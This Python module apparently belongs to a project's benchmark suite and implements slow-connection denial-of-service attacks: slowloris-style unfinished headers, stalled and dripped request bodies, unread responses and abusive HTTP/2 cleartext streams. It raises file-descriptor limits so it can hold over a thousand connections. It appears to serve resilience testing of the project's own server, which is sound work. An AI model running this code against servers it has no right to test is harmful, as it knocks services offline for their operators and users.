"""Attacks by connections: unfinished headers and bodies, HTTP/2 streams without TLS, responses that stay unread."""

import resource
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from benchmarks.attacks.target import Target

# Each server worker has four threads, and there are two workers.
_THREADS = 8
_UNFINISHED = 1_300
_BODY_PATH = "/api/tokens/fetch-by-pool-addresses"


def open_streams_of_http2(target: Target) -> None:
    """Open 8 HTTP/2 streams without TLS with endless bodies, and close the connection; again and again."""
    for _ in target.rounds(every=0.5):
        with suppress(OSError), target.connect() as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
            for number in range(_THREADS):
                connection.sendall(_frame(1, 0x4, 2 * number + 1, _request_headers(target)))
            # Long enough for the server to start them.
            time.sleep(0.2)


def leave_headers_unfinished(target: Target) -> None:
    """Hold 1,300 connections with unfinished headers, and replace each that the server closes."""
    head = f"GET /api/tokens HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: ".encode()
    _hold(target, _UNFINISHED, lambda connection: connection.sendall(head))


def leave_bodies_unsent(target: Target) -> None:
    """Hold 16 requests that declare a body and send none."""
    head = _body_head(target, 1_000)
    _hold(target, 2 * _THREADS, lambda connection: connection.sendall(head))


def send_bodies_slowly(target: Target) -> None:
    """Hold 64 requests whose bodies arrive at one byte per second."""
    head = _body_head(target, 100_000)
    _hold(target, 64, lambda connection: connection.sendall(head), drip=b" ")


def read_responses_slowly(target: Target) -> None:
    """Hold 64 connections that request the largest public response and don't read it."""
    head = f"GET /api/openapi.json HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    _hold(target, 64, lambda connection: connection.sendall(head * 8), receive_buffer=4_096)


def _hold(
    target: Target,
    count: int,
    begin: Callable[[socket.socket], None],
    *,
    drip: bytes = b"",
    receive_buffer: int = 0,
) -> None:
    """Keep so many connections open, each begun by `begin`; a closed one is replaced within a second."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, count + 200), hard), hard))
    held: list[socket.socket] = []
    with ExitStack() as stack:
        for _ in target.rounds(every=1.0):
            held = [connection for connection in held if _is_open(connection, drip)]
            while len(held) < count and not target.is_over():
                try:
                    connection = stack.enter_context(target.connect(receive_buffer=receive_buffer))
                    begin(connection)
                except OSError:
                    break
                connection.setblocking(False)
                held.append(connection)


def _is_open(connection: socket.socket, drip: bytes) -> bool:
    """Send the next byte, and return whether the server has not closed the connection."""
    try:
        if drip:
            connection.send(drip)
        is_open = connection.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        is_open = False
    if not is_open:
        connection.close()
    return is_open


def _body_head(target: Target, length: int) -> bytes:
    lines = (
        f"POST {_BODY_PATH} HTTP/1.1",
        f"Host: {target.host}:{target.port}",
        "Content-Type: application/json",
        f"Content-Length: {length}",
    )
    return "\r\n".join([*lines, "", ""]).encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _request_headers(target: Target) -> bytes:
    """Return POST, http, path and authority, by HPACK's static table without compression (RFC 7541)."""
    path, authority = _BODY_PATH.encode(), f"{target.host}:{target.port}".encode()
    literals = b"\x04" + bytes((len(path),)) + path + b"\x01" + bytes((len(authority),)) + authority
    return b"\x83\x86" + literals
